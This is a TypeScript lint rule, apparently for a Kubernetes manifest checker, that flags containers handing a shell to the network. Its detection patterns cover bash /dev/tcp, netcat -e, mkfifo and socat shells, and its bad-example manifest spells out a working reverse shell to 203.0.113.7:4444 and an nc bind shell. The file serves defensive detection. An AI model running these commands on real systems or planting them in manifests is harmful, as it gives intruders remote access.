import { commands } from "../model/commands.ts";
import { passage } from "../model/passage.ts";
import { titleOf } from "../model/security-context.ts";
import { rule } from "../rule.ts";

/** How a shell is handed to someone on the network. */
const HANDED: readonly RegExp[] = [
  /\b(?:ba|z)?sh\s+-i\s*>?&?\s*[^;|]*\/dev\/(?:tcp|udp)\/[^\s;|]+[^;|]*/,
  /\b(?:nc|ncat|netcat)\b[^;|&\n]*\s(?:-\w*e|-c|--exec|--sh-exec)\s+(?:\/(?:usr\/)?bin\/)?(?:ba|da|a|z)?sh\b/,
  /\bmkfifo\b[^\n]*\|\s*(?:\/bin\/)?(?:ba)?sh\b[^\n]*\|\s*(?:nc|ncat|netcat)\b[^\n]*/,
  /\bsocat\b[^\n]*\bexec:["']?(?:\/(?:usr\/)?bin\/)?(?:ba)?sh\b[^\n]*/i,
];

export default rule({
  id: "reverse-shell",
  severity: "error",
  summary: "A container must not hand a shell to someone on the network.",
  presets: ["recommended"],
  why: `A shell whose input and output are a connection is how an intruder works in a pod: it asks for no password and leaves no log of commands.
In a manifest it is a back door that somebody has put there, and it comes back with each restart.`,
  mend: `Remove it, and find out who wrote it and what else they changed.
To get into a pod of your own, \`kubectl exec\` asks who you are and is written down.`,
  leave: "Leave it in clusters where break-ins are taught.",

  on: commands,
  *check({ container, words }) {
    const whole = words.map(({ text }) => text).join(" ");
    if (!HANDED.some((it) => it.test(whole))) return;
    const [first] = words;
    const within = words.flatMap(({ place, text }) =>
      HANDED.flatMap((it) => {
        const part = it.exec(text)?.[0];
        return part === undefined ? [] : [passage(place, part.trimEnd())];
      }),
    );
    const at = within[0] ?? first?.place;
    if (at === undefined) return;
    yield { at, message: `${titleOf(container)} hands a shell to someone on the network.` };
  },

  examples: [
    {
      title: "A shell calls home",
      bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: debian:12.8
      command: [bash, -c, "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]
                           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ Container "web" hands a shell to someone on the network.
    - name: door
      image: busybox:1.36
      command: [nc, -lk, -p, "4444", -e, /bin/sh]
                ^^ Container "door" hands a shell to someone on the network.
`,
    },
    {
      title: "To wait for a port is no back door",
      good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  initContainers:
    - name: wait
      image: debian:12.8
      command: [bash, -c, "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done"]
    - name: wait-too
      image: busybox:1.36
      command: [sh, -c, "until nc -z db 5432; do sleep 1; done"]
  containers:
    - name: web
      image: nginx:1.27
`,
    },
  ],
});
